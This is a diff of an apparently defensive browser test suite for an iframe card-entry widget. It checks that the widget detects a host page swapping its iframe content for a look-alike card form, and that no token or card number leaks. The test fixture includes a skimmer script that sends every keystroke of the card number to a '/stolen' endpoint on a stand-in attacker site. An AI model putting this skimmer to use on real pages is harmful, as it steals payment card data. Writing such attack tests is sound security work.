@@ -4,11 +4,11 @@ import { type Asked, attack, expect, type Field } from './attack.ts'
 import { script, shopPage } from './pages.ts'
 import type { Edit } from './weaken.ts'
 
-/** Looks like ours, on the attacker's site; sends each key there. */
-const lookAlike = `<body><form id="form"><h1>Harbour Rooms</h1>
-<label>Card number <input autocomplete="cc-number"></label></form>${script(() => {
-  addEventListener('input', ({ target }) => void fetch(`/stolen?${(target as HTMLInputElement).value}`))
-})}</body>`
+/** Looks like ours, on the attacker's site; sends each key there, and says by which way it came. */
+const lookAlike = (way: string): string => `<body><form id="form"><h1>Harbour Rooms</h1>
+<label>Card number <input data-own autocomplete="cc-number"></label></form>${script((name) => {
+  addEventListener('input', ({ target }) => void fetch(`/stolen?${name}=${(target as HTMLInputElement).value}`))
+}, way)}</body>`
 
 const stolen = ({ site }: Field): string => site.got.map(({ path }) => path).join('\n')
 
@@ -39,16 +39,26 @@ async function open(
   return { result: () => result, soon: () => Promise.race([result, page.waitForTimeout(400).then(() => 'pending')]) }
 }
 
-const ways: Record<string, (address: string) => void> = {
-  'by its address': (address) => {
+const ways: Record<string, (to: { address: string; html: string }) => void> = {
+  address: ({ address }) => {
     window.card.shadowRoot?.querySelector('iframe')?.setAttribute('src', address)
   },
-  'by its window': (address) => {
+  window: ({ address }) => {
     window.card.shadowRoot?.querySelector('iframe')?.contentWindow?.location.replace(address)
   },
-  'by its HTML': () => {
-    window.card.shadowRoot?.querySelector('iframe')?.setAttribute('srcdoc', '<input autocomplete="cc-number">')
+  html: ({ html }) => {
+    window.card.shadowRoot?.querySelector('iframe')?.setAttribute('srcdoc', html)
   },
+}
+
+/** The page puts its form into our place. Who types a moment later types into whatever is there by then. */
+async function putsItsOwn({ page, site }: Field, way: string, lookedFor: () => Promise<unknown>): Promise<void> {
+  const html = lookAlike(way)
+  await page.evaluate(ways[way] ?? (() => {}), { address: site.page(html, site.evil), html })
+  await lookedFor()
+  const theirs = page.frameLocator('sallyport-capture iframe').locator('input[data-own]')
+  if ((await page.locator('sallyport-capture iframe').count()) > 0) await theirs.fill(cards.visa.number)
+  else await page.keyboard.type(cards.visa.number)
 }
 
 attack('The page puts a form of its own into our iframe', {
@@ -56,15 +66,16 @@ attack('The page puts a form of its own into our iframe', {
   defended: [
     'one load too many ends the request: the iframe is taken away before anything is typed, and no token comes of it',
     async (field) => {
-      const { page, site } = field
-      for (const go of Object.values(ways)) {
+      const { page } = field
+      for (const way of Object.keys(ways)) {
         const asked = await field.ask()
         const { result } = await open(field, asked)
-        await page.evaluate(go, site.page(lookAlike, site.evil))
+        await putsItsOwn(field, way, result)
         expect(await result()).toEqual({ ok: false, code: 'channel.lost' })
         expect(await page.locator('sallyport-capture iframe').count()).toBe(0)
         expect((await field.state(asked)).token).toBeUndefined()
       }
+      await page.waitForTimeout(200)
       expect(stolen(field)).not.toContain('4242')
     },
   ],
@@ -73,11 +84,12 @@ attack('The page puts a form of its own into our iframe', {
     async (field) => {
       const { page, site } = field
       const { soon } = await open(field, await field.ask(), await site.widgetWithout([countsNoLoads]))
-      await page.evaluate(ways['by its address'] ?? (() => {}), site.page(lookAlike, site.evil))
+      for (const way of Object.keys(ways)) {
+        const there = `sallyport-capture iframe`
+        await putsItsOwn(field, way, () => expect.poll(() => page.locator(there).count()).toBe(1))
+        await expect.poll(() => stolen(field)).toContain(`${way}=${cards.visa.number}`)
+      }
       expect(await soon()).toBe('pending')
-      const frame = page.frameLocator('sallyport-capture iframe')
-      await frame.locator('input[autocomplete="cc-number"]').fill(cards.visa.number)
-      await expect.poll(() => stolen(field)).toContain(cards.visa.number)
     },
   ],
 })
